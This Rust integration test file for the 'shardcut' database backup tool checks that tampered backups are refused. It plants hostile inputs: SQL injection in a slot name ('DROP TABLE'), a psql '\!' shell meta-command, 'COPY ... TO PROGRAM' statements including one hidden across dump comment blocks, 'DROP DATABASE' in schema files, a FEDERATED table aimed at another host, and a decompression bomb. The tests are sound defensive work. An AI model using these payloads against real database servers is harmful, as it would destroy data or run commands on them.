//! The repository is untrusted input: what it holds may have been written
//! by anyone who can reach it, and must never make shardcut run something
//! on a database server.

use shard_agent::capture::keys;
use shard_agent::repo::Repository;

use crate::support::{self, db, PrivateSandbox};

/// A stream state whose slot name carries SQL is refused before any
/// statement reaches the source: `capture --remove` would otherwise send
/// the name inside `DROP PUBLICATION`, and a catch-up inside the decoding
/// call.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tampered_slot_name_in_the_capture_state_runs_nothing() {
    let sb = PrivateSandbox::up(0, 1, "ready");
    let dir = tempfile::tempdir().unwrap();
    let topo_path = support::topology_variant(&sb.topology(), dir.path(), &[]);
    let arg = topo_path.to_str().unwrap();
    let topo = db::topology(&topo_path);
    db::setup_all(
        &topo,
        &[],
        "bank",
        "CREATE TABLE accounts (id int PRIMARY KEY); INSERT INTO accounts VALUES (1)",
    )
    .await;
    let run = support::shardcut(&["capture", "-t", arg, "--once", "--no-mark"]);
    assert_eq!(run.code, 0, "{run:?}");

    let shard = &topo.shards[0];
    let repo = db::repository(&topo);
    let key = keys::state(&shard.name, "bank");
    let mut state: serde_json::Value = serde_json::from_slice(&repo.get(&key).unwrap()).unwrap();
    let real_slot = state["slot"].as_str().unwrap().to_string();
    state["slot"] = "x; DROP TABLE accounts".into();
    repo.put(&key, &serde_json::to_vec(&state).unwrap())
        .unwrap();

    for args in [
        &["capture", "-t", arg, "--once", "--no-mark"][..],
        &["capture", "-t", arg, "--remove"][..],
    ] {
        let run = support::shardcut(args);
        assert_eq!(run.code, 1, "{args:?}: {run:?}");
        assert!(
            run.stderr.contains("which shardcut never creates"),
            "{args:?}: {}",
            run.stderr
        );
    }
    let run = support::shardcut(&["status", "-t", arg, "--json"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stdout.contains("which shardcut never creates"),
        "{run:?}"
    );

    let client = db::pg(shard, "bank").await;
    let rows: i64 = client
        .query_one("SELECT count(*) FROM accounts", &[])
        .await
        .expect("the table is still there")
        .get(0);
    assert_eq!(rows, 1);
    let slots: i64 = client
        .query_one(
            "SELECT count(*) FROM pg_replication_slots WHERE slot_name = $1",
            &[&real_slot],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(slots, 1, "the real slot is untouched");
    // Leave no slot behind: it would hold WAL on the sandbox server.
    client
        .execute("SELECT pg_drop_replication_slot($1)", &[&real_slot])
        .await
        .unwrap();
}

/// Every directory below `root` (and `root`) is 0700, every file 0600.
fn owner_only(root: &std::path::Path) {
    use std::os::unix::fs::PermissionsExt;
    let mut dirs = vec![root.to_path_buf()];
    let mut files = 0;
    while let Some(d) = dirs.pop() {
        let mode = std::fs::metadata(&d).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o700, "{}", d.display());
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            if e.file_type().unwrap().is_dir() {
                dirs.push(e.path());
            } else {
                let mode = e.metadata().unwrap().permissions().mode() & 0o777;
                assert_eq!(mode, 0o600, "{}", e.path().display());
                files += 1;
            }
        }
    }
    assert!(files > 10, "only {files} files checked");
}

/// A backup of the shared sandbox into a repository of the test's own,
/// with its manifest at hand to tamper with.
struct Backup {
    dir: tempfile::TempDir,
    topology: std::path::PathBuf,
    id: String,
    repo: shard_agent::repo::LocalRepository,
}

impl Backup {
    fn take() -> Backup {
        let dir = tempfile::tempdir().unwrap();
        let topology = support::topology_variant(&support::sandbox_topology(), dir.path(), &[]);
        let run = support::shardcut(&["backup", "-t", topology.to_str().unwrap(), "--json"]);
        assert_eq!(run.code, 0, "{run:?}");
        let id = run.json()["backup_id"].as_str().unwrap().to_string();
        let repo = db::repository(&db::topology(&topology));
        Backup {
            dir,
            topology,
            id,
            repo,
        }
    }

    fn arg(&self) -> &str {
        self.topology.to_str().unwrap()
    }

    fn manifest(&self) -> serde_json::Value {
        let key = shard_agent::manifest::keys::manifest(&self.id);
        serde_json::from_slice(&self.repo.get(&key).unwrap()).unwrap()
    }

    fn save_manifest(&self, m: &serde_json::Value) {
        let key = shard_agent::manifest::keys::manifest(&self.id);
        self.repo
            .put(&key, &serde_json::to_vec(m).unwrap())
            .unwrap();
    }

    /// `shardcut restore` of this backup into `target`, with `extra` options.
    fn restore(&self, target: &std::path::Path, extra: &[&str]) -> support::Run {
        let mut args = vec![
            "restore",
            "-t",
            self.arg(),
            "--backup",
            &self.id,
            "--target",
            target.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        support::shardcut(&args)
    }
}

/// A manifest naming a server's own database (`mysql`, `postgres`) is
/// refused before the target is touched, even with `--overwrite`: a
/// restore drops each database it recreates.
#[test]
fn a_manifest_naming_a_system_database_is_refused() {
    let backup = Backup::take();
    // A backup holds every row: only its owner may read it.
    owner_only(&backup.dir.path().join("repo"));
    let mut m = backup.manifest();
    for (shard, from, to) in [("mysql-0", "db1", "mysql"), ("pg-0", "shop", "postgres")] {
        let s = &mut m["shards"][shard];
        for list in ["schema", "table_list"] {
            for entry in s[list].as_array_mut().unwrap() {
                if entry["database"] == from {
                    entry["database"] = to.into();
                }
            }
        }
    }
    backup.save_manifest(&m);

    let scratch = PrivateSandbox::up(1, 1, "ready");
    let target = scratch.topology();
    for (shard, system) in [("mysql-0", "mysql"), ("pg-0", "postgres")] {
        let run = backup.restore(&target, &["--shard", shard, "--overwrite"]);
        assert_eq!(run.code, 2, "{run:?}");
        assert!(
            run.stderr
                .contains(&format!("names the system database `{system}`")),
            "{}",
            run.stderr
        );
    }
    // The scratch servers' own databases are still there and in use.
    let scratch_topo = db::topology(&target);
    let run = support::shardcut(&["check", "-t", target.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(scratch_topo.shards.len(), 2);
}

/// A database whose name reads as a libpq connection string is backed up
/// and restored as itself: `pg_dump` and `psql` get the name quoted, so
/// they never follow it to another server (here: the cluster's other
/// shard, which holds a database of the name it points to).
#[test]
fn a_database_named_like_a_connection_string_stays_a_name() {
    let sb = PrivateSandbox::up(0, 2, "ready");
    let dir = tempfile::tempdir().unwrap();
    let topo_path = support::topology_variant(&sb.topology(), dir.path(), &[]);
    let topo = db::topology(&topo_path);
    let (pg0, pg1) = (&topo.shards[0], &topo.shards[1]);
    let weird = format!("dbname=other port={}", pg1.endpoint.port);
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let a = db::pg(pg0, "postgres").await;
        a.batch_execute(&format!("CREATE DATABASE \"{weird}\""))
            .await
            .unwrap();
        db::pg(pg0, &weird)
            .await
            .batch_execute("CREATE TABLE mine (id int PRIMARY KEY); INSERT INTO mine VALUES (7)")
            .await
            .unwrap();
        let b = db::pg(pg1, "postgres").await;
        b.batch_execute("CREATE DATABASE other").await.unwrap();
        db::pg(pg1, "other")
            .await
            .batch_execute("CREATE TABLE theirs (id int PRIMARY KEY)")
            .await
            .unwrap();
    });
    let arg = topo_path.to_str().unwrap();
    let run = support::shardcut(&["backup", "-t", arg, "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let id = run.json()["backup_id"].as_str().unwrap().to_string();
    let m = support::manifest(&topo_path, &id);
    let tables: Vec<String> = m.shards[&pg0.name]
        .table_list
        .iter()
        .map(|t| t.qualified())
        .collect();
    assert_eq!(tables, vec![format!("{weird}.public.mine")]);

    let scratch = PrivateSandbox::up(0, 1, "ready");
    let run = support::shardcut(&[
        "restore",
        "-t",
        arg,
        "--backup",
        &id,
        "--target",
        scratch.topology().to_str().unwrap(),
        "--shard",
        &pg0.name,
        "--map",
        &format!("{}=pg-0", pg0.name),
        "--json",
    ]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(run.json()["quality"]["score"], 1.0, "{run:?}");
    let target = db::topology(&scratch.topology());
    let n: i64 = rt.block_on(async {
        db::pg(&target.shards[0], &weird)
            .await
            .query_one("SELECT id FROM mine", &[])
            .await
            .unwrap()
            .get::<_, i32>(0)
            .into()
    });
    assert_eq!(n, 7);
}

/// Every chunk of pg-0 in the manifest `m`, to change in place.
fn pg0_chunks(m: &mut serde_json::Value) -> impl Iterator<Item = &mut serde_json::Value> {
    m["shards"]["pg-0"]["table_list"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .flat_map(|t| t["chunks"].as_array_mut().unwrap().iter_mut())
}

/// Appends `sql` to `backup`'s PostgreSQL schema file of `section` for
/// `shop`, with the manifest's checksum and sizes updated to match (the
/// manifest sits in the same repository), then restores pg-0 into a
/// fresh server: the restore must refuse with exit 2 before the target is
/// changed, naming the file and `refusal`.
fn planted_in_a_schema_file_is_refused(backup: &Backup, section: &str, sql: &str, refusal: &str) {
    let repo = &backup.repo;
    let mut m = backup.manifest();
    let files = m["shards"]["pg-0"]["schema"].as_array_mut().unwrap();
    let f = files
        .iter_mut()
        .find(|f| f["section"] == section && f["database"] == "shop")
        .unwrap_or_else(|| panic!("a {section} file of shop"));
    let file_key = f["key"].as_str().unwrap().to_string();
    let raw = shard_agent::dump::chunk::decompress(&repo.get(&file_key).unwrap()).unwrap();
    let text = String::from_utf8(raw).unwrap() + "\n" + sql;
    let stored =
        shard_agent::dump::chunk::compress(text.as_bytes(), topology::Compression::Zstd(1))
            .unwrap();
    repo.put(&file_key, &stored).unwrap();
    f["xxh3"] = shard_agent::checksum::xxh3_hex(&stored).into();
    f["bytes_raw"] = text.len().into();
    f["bytes_stored"] = stored.len().into();
    backup.save_manifest(&m);

    let scratch = PrivateSandbox::up(0, 1, "ready");
    let run = backup.restore(&scratch.topology(), &["--shard", "pg-0"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.contains(&file_key) && run.stderr.contains(refusal),
        "{}",
        run.stderr
    );
    // Nothing was created on the target.
    let target = db::topology(&scratch.topology());
    let rt = tokio::runtime::Runtime::new().unwrap();
    let exists: bool = rt.block_on(async {
        db::pg(&target.shards[0], "postgres")
            .await
            .query_one(
                "SELECT EXISTS (SELECT 1 FROM pg_database WHERE datname = 'shop')",
                &[],
            )
            .await
            .unwrap()
            .get(0)
    });
    assert!(!exists, "the restore changed the target");
}

/// A psql meta-command planted in a PostgreSQL schema file runs nothing:
/// the restore refuses before the target is changed, naming the file and
/// the line.
#[test]
fn a_psql_meta_command_in_a_schema_file_runs_nothing() {
    let backup = Backup::take();
    let marker = backup.dir.path().join("ran");
    planted_in_a_schema_file_is_refused(
        &backup,
        "pre-data",
        &format!("\\! touch {}\n", marker.display()),
        "psql meta-command",
    );
    assert!(!marker.exists(), "the planted command ran");
}

/// A `COPY … TO PROGRAM` planted in a PostgreSQL backup's sequences file
/// (the `setval` calls run after the data) is refused like one in the
/// other schema files: before the target is changed, naming the file.
#[test]
fn a_program_planted_in_the_sequences_file_runs_nothing() {
    let backup = Backup::take();
    let marker = backup.dir.path().join("ran");
    // The `;` in the string must not end the statement for the check.
    planted_in_a_schema_file_is_refused(
        &backup,
        "sequences",
        &format!(
            "COPY (SELECT ';') TO PROGRAM 'touch {}';\n",
            marker.display()
        ),
        "COPY … FROM/TO PROGRAM",
    );
    assert!(!marker.exists(), "the planted program ran");
}

/// A `COPY … TO PROGRAM` hidden in the post-data section by a string that
/// crosses pg_dump's `-- Name:` header: read whole, the section's string
/// ends inside the comment of the next block and hides the statement; but
/// the restore runs each index block on its own, where the comment hides
/// the quote instead. Each block is checked as it runs: the restore
/// refuses before the target is changed, naming the file and the block.
#[test]
fn a_program_hidden_across_post_data_blocks_runs_nothing() {
    let backup = Backup::take();
    let marker = backup.dir.path().join("ran");
    planted_in_a_schema_file_is_refused(
        &backup,
        "post-data",
        &format!(
            "--\n-- Name: planted_a; Type: INDEX; Schema: public; Owner: -\n--\n\n\
             CREATE INDEX planted_a ON public.customers USING btree (id) WHERE '' <> '\n\
             --\n-- Name: planted_b; Type: INDEX; Schema: public; Owner: -\n--\n\n\
             COPY public.customers TO /* ' ; */ PROGRAM 'touch {}';\n",
            marker.display()
        ),
        "block \"-- Name: planted_b; Type: INDEX; Schema: public; Owner: -\": its line 5 has a COPY … FROM/TO PROGRAM",
    );
    assert!(!marker.exists(), "the planted program ran");
}

/// A chunk object replaced by a larger one, the manifest left as it was,
/// is refused by `verify` by its size before it is read: a planted object
/// of gigabytes (a sparse file costs nothing to plant) would otherwise be
/// read whole into memory, on every core at once, before its size was
/// compared.
#[test]
fn a_chunk_object_larger_than_recorded_is_refused_by_verify_before_it_is_read() {
    let backup = Backup::take();
    let mut m = backup.manifest();
    let chunk = pg0_chunks(&mut m).next().unwrap();
    let chunk_key = chunk["key"].as_str().unwrap().to_string();
    let recorded = chunk["bytes_stored"].as_u64().unwrap();
    // As an object of its own, as a manifest may place it.
    chunk.as_object_mut().unwrap().remove("bundle");
    backup.save_manifest(&m);
    let planted = vec![0u8; usize::try_from(recorded).unwrap() + 1_000_000];
    backup.repo.put(&chunk_key, &planted).unwrap();

    let run = support::shardcut(&["verify", "--backup", &backup.id, "-t", backup.arg()]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stdout.contains(&chunk_key)
            && run.stdout.contains(&format!(
                "is {} bytes, more than the {recorded} it may take: not read",
                planted.len()
            )),
        "{run:?}"
    );
}

/// A chunk replaced by one that decompresses to 100 times the size its
/// manifest records (its checksum updated to match) is refused by name by
/// `verify` and by `restore`, which stop reading at the recorded size.
#[test]
fn a_chunk_that_expands_beyond_its_recorded_size_is_refused() {
    use std::io::Read;
    let backup = Backup::take();
    let mut m = backup.manifest();
    let chunk = pg0_chunks(&mut m)
        .max_by_key(|c| c["bytes_raw"].as_u64().unwrap())
        .unwrap();
    let chunk_key = chunk["key"].as_str().unwrap().to_string();
    let declared = chunk["bytes_raw"].as_u64().unwrap();
    // A small table's chunk lies in a bundle: a manifest that places it
    // beyond its bundle's end is refused before anything is decompressed.
    assert!(chunk["bundle"].is_object(), "{chunk}");
    let stored = chunk["bytes_stored"].as_u64().unwrap();
    chunk["bytes_stored"] = (stored + 1_000_000).into();
    backup.save_manifest(&m);
    let run = support::shardcut(&["verify", "--backup", &backup.id, "-t", backup.arg()]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stdout.contains(&chunk_key) && run.stdout.contains("the manifest places there"),
        "{run:?}"
    );
    // The bomb: the chunk as an object of its own, as a manifest may say.
    let chunk = pg0_chunks(&mut m)
        .find(|c| c["key"] == chunk_key.as_str())
        .unwrap();
    chunk.as_object_mut().unwrap().remove("bundle");
    let mut bomb = Vec::new();
    zstd::stream::read::Encoder::new(std::io::repeat(b'7').take(declared * 100), 3)
        .unwrap()
        .read_to_end(&mut bomb)
        .unwrap();
    assert!((bomb.len() as u64) < declared, "{} bytes", bomb.len());
    backup.repo.put(&chunk_key, &bomb).unwrap();
    chunk["xxh3"] = shard_agent::checksum::xxh3_hex(&bomb).into();
    chunk["bytes_stored"] = bomb.len().into();
    backup.save_manifest(&m);

    let run = support::shardcut(&["verify", "--backup", &backup.id, "-t", backup.arg()]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stdout.contains(&chunk_key)
            && run
                .stdout
                .contains(&format!("more than the {declared} bytes")),
        "{run:?}"
    );

    let scratch = PrivateSandbox::up(0, 1, "ready");
    let run = backup.restore(&scratch.topology(), &["--shard", "pg-0"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr.contains(&chunk_key)
            && run
                .stderr
                .contains(&format!("more than the {declared} bytes")),
        "{}",
        run.stderr
    );
}

/// A PostgreSQL chunk holding a line the dump never writes (an escape,
/// `\x41`, that the server's text input would take for `A`), with the
/// manifest's checksum updated to match, is refused by the restore, which
/// loads such tables in the binary format: the error names the chunk and
/// the line, and the table's load rolls back, so it holds no row.
#[test]
fn a_chunk_line_the_dump_never_writes_is_refused_by_name_and_loads_nothing() {
    use shard_agent::engine::postgres::binary_copy::{self, Column};
    let backup = Backup::take();
    let mut m = backup.manifest();
    let typed: shard_agent::manifest::Manifest = serde_json::from_value(m.clone()).unwrap();
    let s = &typed.shards["pg-0"];
    // The first table loaded in binary that has a string column.
    let (t, text_at) = s
        .table_list
        .iter()
        .filter(|t| !t.chunks.is_empty())
        .find_map(|t| {
            let types: Vec<&str> = t.columns.iter().map(|c| c.data_type.as_str()).collect();
            let at = binary_copy::columns(&types)?
                .iter()
                .position(|c| *c == Column::Text)?;
            Some((t, at))
        })
        .expect("a table of pg-0 loaded in binary, with a string column");
    let mut lines = db::table_lines(&backup.repo, s, t);
    let mut fields: Vec<&[u8]> = lines[0].split(|b| *b == b'\t').collect();
    fields[text_at] = b"\\x41";
    lines[0] = fields.join(&b'\t');
    let key = as_one_chunk(&backup, &mut m, "pg-0", t, &lines);

    let scratch = PrivateSandbox::up(0, 1, "ready");
    let run = backup.restore(&scratch.topology(), &["--shard", "pg-0"]);
    assert_ne!(run.code, 0, "{run:?}");
    let line = run.stderr.lines().find(|l| l.contains(&key)).unwrap_or("");
    assert!(
        line.contains("line 1:") && line.contains("the escape \\x that COPY never writes"),
        "{}",
        run.stderr
    );
    // The shard is named once, ahead of what failed in it.
    assert!(line.contains("shard(s): pg-0: chunk backups/"), "{line}");
    let target = db::topology(&scratch.topology());
    let rt = tokio::runtime::Runtime::new().unwrap();
    let rows: i64 = rt.block_on(async {
        db::pg(&target.shards[0], &t.database)
            .await
            .query_one(
                &format!(
                    "SELECT count(*) FROM \"{}\".\"{}\"",
                    t.schema.as_deref().unwrap_or("public"),
                    t.name
                ),
                &[],
            )
            .await
            .unwrap()
            .get(0)
    });
    assert_eq!(rows, 0, "{} was partly loaded", t.name);
}

/// Stores `lines` as table `t`'s only chunk, an object of its own in place
/// of its chunks, with the checksums, sizes and row count of the chunk in
/// the manifest `m` of `shard` updated to match (the table's own row count
/// and hash are left as they were); returns the chunk's key.
fn as_one_chunk(
    backup: &Backup,
    m: &mut serde_json::Value,
    shard: &str,
    t: &shard_agent::manifest::TableManifest,
    lines: &[Vec<u8>],
) -> String {
    let mut text = lines.join(&b'\n');
    text.push(b'\n');
    let stored = shard_agent::dump::chunk::compress(&text, topology::Compression::Zstd(1)).unwrap();
    let entry = m["shards"][shard]["table_list"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|e| e["database"] == t.database.as_str() && e["name"] == t.name.as_str())
        .unwrap();
    let mut chunk = entry["chunks"][0].clone();
    let key = chunk["key"].as_str().unwrap().to_string();
    chunk.as_object_mut().unwrap().remove("bundle");
    chunk["xxh3"] = shard_agent::checksum::xxh3_hex(&stored).into();
    chunk["raw_xxh3"] = shard_agent::checksum::xxh3_hex(&text).into();
    chunk["bytes_stored"] = stored.len().into();
    chunk["bytes_raw"] = text.len().into();
    chunk["rows"] = lines.len().into();
    entry["chunks"] = serde_json::json!([chunk]);
    backup.repo.put(&key, &stored).unwrap();
    backup.save_manifest(m);
    key
}

/// A target database that exists is replaced only with `--overwrite`, even
/// when it holds no table, only a routine or a view: those are someone's
/// work too.
#[test]
fn a_target_database_holding_only_routines_or_views_is_not_replaced() {
    use mysql_async::prelude::Queryable;
    let backup = Backup::take();

    let scratch = PrivateSandbox::up(1, 1, "ready");
    let target = db::topology(&scratch.topology());
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (my, pg) = (&target.shards[0], &target.shards[1]);
    rt.block_on(async {
        let mut c = db::mysql(my, None).await;
        c.query_drop("CREATE DATABASE shop").await.unwrap();
        c.query_drop("CREATE PROCEDURE shop.keep_me() SELECT 1")
            .await
            .unwrap();
        db::pg(pg, "postgres")
            .await
            .batch_execute("CREATE DATABASE shop")
            .await
            .unwrap();
        db::pg(pg, "shop")
            .await
            .batch_execute(
                "CREATE FUNCTION keep_me() RETURNS int LANGUAGE sql AS 'SELECT 1'; \
                 CREATE VIEW keep_me_too AS SELECT 1 AS one",
            )
            .await
            .unwrap();
    });
    for shard in ["mysql-0", "pg-0"] {
        let run = backup.restore(&scratch.topology(), &["--shard", shard]);
        assert_eq!(run.code, 2, "{run:?}");
        assert!(
            run.stderr.contains("target database shop exists and holds")
                && run.stderr.contains("--overwrite"),
            "{}",
            run.stderr
        );
    }
    rt.block_on(async {
        let mut c = db::mysql(my, None).await;
        let n: Option<u64> = c
            .query_first(
                "SELECT COUNT(*) FROM information_schema.ROUTINES WHERE ROUTINE_SCHEMA = 'shop'",
            )
            .await
            .unwrap();
        assert_eq!(n, Some(1));
        let n: i64 = db::pg(pg, "shop")
            .await
            .query_one(
                "SELECT count(*) FROM pg_proc WHERE proname = 'keep_me'",
                &[],
            )
            .await
            .unwrap()
            .get(0);
        assert_eq!(n, 1);
    });
}

#[test]
fn a_manifest_moved_into_another_backups_folder_is_refused_and_expire_deletes_by_folder() {
    let a = Backup::take();
    let run = support::shardcut(&["backup", "-t", a.arg(), "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let b = run.json()["backup_id"].as_str().unwrap().to_string();
    // B's folder now holds A's manifest (its backup_id says A).
    let key = shard_agent::manifest::keys::manifest(&b);
    a.repo
        .put(&key, &serde_json::to_vec(&a.manifest()).unwrap())
        .unwrap();

    for args in [
        vec!["show", b.as_str(), "-t", a.arg()],
        vec!["verify", "--backup", b.as_str(), "-t", a.arg()],
    ] {
        let run = support::shardcut(&args);
        assert_ne!(run.code, 0, "{args:?}: {run:?}");
        assert!(
            run.stderr
                .contains(&format!("names backup {}, not {b} where it lies", a.id)),
            "{args:?}: {run:?}"
        );
    }
    // Expire sees one readable backup (A) and keeps it: nothing of A is
    // deleted on the word of a manifest found elsewhere.
    let run = support::shardcut(&["expire", "-t", a.arg(), "--keep-last", "1", "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let verify = support::shardcut(&["verify", "--backup", &a.id, "-t", a.arg()]);
    assert_eq!(verify.code, 0, "{verify:?}");
}

/// Documents the repository names by key alone, with no size recorded
/// anywhere (manifests, marks, locks), each have a bound that shardcut's
/// own never reach, and a larger one, planted, is refused by its size
/// before it is read: a sparse file of 1.5 GiB (free to plant) would
/// otherwise be read whole into memory by every `list`. The oversized
/// manifest is listed as unreadable, by name; an oversized mark fails
/// `status` and `show mark:NAME` by name; an oversized lock is unreadable, as one cut short by
/// a crash is, so the next backup takes it over.
#[test]
fn oversized_manifests_marks_and_locks_are_refused_by_size_before_they_are_read() {
    let backup = Backup::take();
    let run = support::shardcut(&["backup", "-t", backup.arg(), "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    let planted_id = run.json()["backup_id"].as_str().unwrap().to_string();
    let topo = db::topology(&backup.topology);
    let topology::RepositoryLocation::Local(root) = &topo.repository.location else {
        panic!("a directory repository")
    };
    let plant = |key: &str| {
        let path = root.join(key);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let f = std::fs::File::create(&path).unwrap();
        f.set_len(1_536 << 20).unwrap();
    };
    let refusal = |key: &str| {
        format!(
            "object {key} is {} bytes, more than the {} it may take: not read",
            1_536u64 << 20,
            shard_agent::manifest::MANIFEST_MAX
        )
    };

    let manifest = shard_agent::manifest::keys::manifest(&planted_id);
    plant(&manifest);
    let run = support::shardcut(&["list", "-t", backup.arg()]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.lines().any(|l| l.starts_with(&planted_id)
            && l.contains("unreadable")
            && l.contains(&refusal(&manifest))),
        "{run:?}"
    );
    assert!(run.stdout.contains(&backup.id), "{run:?}");

    let mark = shard_agent::manifest::keys::mark("planted");
    plant(&mark);
    for args in [vec!["status"], vec!["show", "mark:planted"]] {
        let run = support::shardcut(&[args.as_slice(), &["-t", backup.arg()]].concat());
        assert_ne!(run.code, 0, "{args:?}: {run:?}");
        assert!(run.stderr.contains(&refusal(&mark)), "{args:?}: {run:?}");
    }
    std::fs::remove_file(root.join(&mark)).unwrap();

    plant(&format!("locks/{}.lock", topo.cluster));
    let run = support::shardcut(&["backup", "-t", backup.arg(), "--json"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stderr.contains("taking over the unreadable lock")
            && run
                .stderr
                .contains("more than the 65536 a lock takes: not read"),
        "{run:?}"
    );
}

/// A MariaDB chunk holding one of its rows twice, its checksum and row
/// count updated to match: `LOAD DATA LOCAL` reads the file as if
/// `IGNORE` were given, so the server skipped the second copy of the key
/// with a warning only, and the restore went on as if the chunk had
/// loaded whole. Each load's row count and warnings are checked now: the
/// restore fails naming the chunk, the count and the server's warning.
#[test]
fn a_mariadb_chunk_row_the_server_skips_fails_the_restore_by_name() {
    let backup = Backup::take();
    let mut m = backup.manifest();
    let typed: shard_agent::manifest::Manifest = serde_json::from_value(m.clone()).unwrap();
    let s = &typed.shards["mysql-0"];
    let t = s
        .table_list
        .iter()
        .find(|t| !t.chunks.is_empty() && !t.primary_key.is_empty() && t.rows > 1)
        .expect("a table of mysql-0 with a primary key and rows");
    let mut lines = db::table_lines(&backup.repo, s, t);
    lines.insert(1, lines[0].clone());
    let key = as_one_chunk(&backup, &mut m, "mysql-0", t, &lines);

    let scratch = PrivateSandbox::up(1, 0, "ready");
    let run = backup.restore(&scratch.topology(), &["--shard", "mysql-0"]);
    assert_eq!(run.code, 1, "{run:?}");
    let loaded = format!(
        "the server loaded {} of the chunk's {} rows",
        lines.len() - 1,
        lines.len()
    );
    assert!(
        run.stderr.contains(&key)
            && run.stderr.contains(&loaded)
            && run.stderr.contains("Duplicate entry"),
        "{}",
        run.stderr
    );
}

/// Rewrites `backup`'s MariaDB schema file of `shop` on mysql-0 with
/// `change`, the manifest's checksum and sizes updated to match.
fn plant_in_the_mariadb_schema(backup: &Backup, mut change: impl FnMut(&mut serde_json::Value)) {
    let mut m = backup.manifest();
    let files = m["shards"]["mysql-0"]["schema"].as_array_mut().unwrap();
    let f = files
        .iter_mut()
        .find(|f| f["section"] == "database" && f["database"] == "shop")
        .expect("the schema file of shop");
    let key = f["key"].as_str().unwrap().to_string();
    let raw = shard_agent::dump::chunk::decompress(&backup.repo.get(&key).unwrap()).unwrap();
    let mut schema: serde_json::Value = serde_json::from_slice(&raw).unwrap();
    change(&mut schema);
    let text = serde_json::to_vec(&schema).unwrap();
    let stored = shard_agent::dump::chunk::compress(&text, topology::Compression::Zstd(1)).unwrap();
    backup.repo.put(&key, &stored).unwrap();
    f["xxh3"] = shard_agent::checksum::xxh3_hex(&stored).into();
    f["bytes_raw"] = text.len().into();
    f["bytes_stored"] = stored.len().into();
    backup.save_manifest(&m);
}

/// Statements planted in a MariaDB schema file never run on the target:
/// `DROP DATABASE victim` in place of the database's `CREATE` is refused
/// before anything changes (each object's statement must be the `CREATE`
/// of its kind and name), and the same drop after a table's `CREATE`
/// (`CREATE TABLE … ; DROP DATABASE victim`) is refused by the server,
/// which gets each stored statement as exactly one (`EXECUTE IMMEDIATE`).
/// Sent as a query, as before, the server ran both.
#[test]
fn statements_planted_in_a_mariadb_schema_file_never_run() {
    use mysql_async::prelude::Queryable;
    let backup = Backup::take();
    let scratch = PrivateSandbox::up(1, 0, "ready");
    let target = db::topology(&scratch.topology());
    let rt = tokio::runtime::Runtime::new().unwrap();
    let victim_tables = || {
        rt.block_on(db::mysql_count(
            &target.shards[0],
            "SELECT COUNT(*) FROM information_schema.TABLES WHERE TABLE_SCHEMA = 'victim'",
        ))
    };
    rt.block_on(async {
        let mut c = db::mysql(&target.shards[0], None).await;
        c.query_drop("CREATE DATABASE victim; CREATE TABLE victim.keep (id int PRIMARY KEY)")
            .await
            .unwrap();
        c.disconnect().await.unwrap();
    });
    assert_eq!(victim_tables(), Some(1));

    plant_in_the_mariadb_schema(&backup, |s| {
        s["create_database"] = "DROP DATABASE victim".into();
    });
    let run = backup.restore(&scratch.topology(), &["--shard", "mysql-0"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr
            .contains("the statement of database shop is not the CREATE DATABASE of it"),
        "{}",
        run.stderr
    );
    assert_eq!(victim_tables(), Some(1), "the planted statement ran");

    plant_in_the_mariadb_schema(&backup, |s| {
        s["create_database"] = "CREATE DATABASE `shop`".into();
        let t = &mut s["tables"][0];
        let name = t["name"].as_str().unwrap().to_string();
        t["sql"] = format!("CREATE TABLE `{name}` (id int); DROP DATABASE victim").into();
    });
    let run = backup.restore(&scratch.topology(), &["--shard", "mysql-0", "--overwrite"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr.contains("You have an error in your SQL syntax"),
        "{}",
        run.stderr
    );
    assert_eq!(victim_tables(), Some(1), "the planted statement ran");

    // A table of the right name whose rows would live on another host:
    // the restore would send them there (and the application's writes
    // after it). No backup has such a table (only InnoDB tables are).
    let mut name = String::new();
    plant_in_the_mariadb_schema(&backup, |s| {
        let t = &mut s["tables"][0];
        name = t["name"].as_str().unwrap().to_string();
        t["sql"] = format!(
            "CREATE TABLE `{name}` (id int) ENGINE=FEDERATED CONNECTION='mysql://u:p@127.0.0.1:9/d/t'"
        )
        .into();
    });
    let run = backup.restore(&scratch.topology(), &["--shard", "mysql-0", "--overwrite"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.contains(&format!(
            "table shop.{name} has ENGINE=FEDERATED, which reaches beyond the server's own tables"
        )),
        "{}",
        run.stderr
    );
}

/// A routine's SQL mode in a MariaDB schema file reaches SQL: one that is
/// SQL is refused when the file is read (exit 2), and one of mode-name
/// characters that the target does not know fails the restore before it
/// creates anything (a mode of another server version would have failed
/// it after every table was loaded).
#[test]
fn a_routines_sql_mode_is_checked_before_the_target_changes() {
    let backup = Backup::take();
    let scratch = PrivateSandbox::up(1, 0, "ready");
    let target = db::topology(&scratch.topology());
    let rt = tokio::runtime::Runtime::new().unwrap();
    let shop_on_target = || {
        rt.block_on(db::mysql_count(
            &target.shards[0],
            "SELECT COUNT(*) FROM information_schema.SCHEMATA WHERE SCHEMA_NAME = 'shop'",
        ))
    };
    let mut routine = String::new();
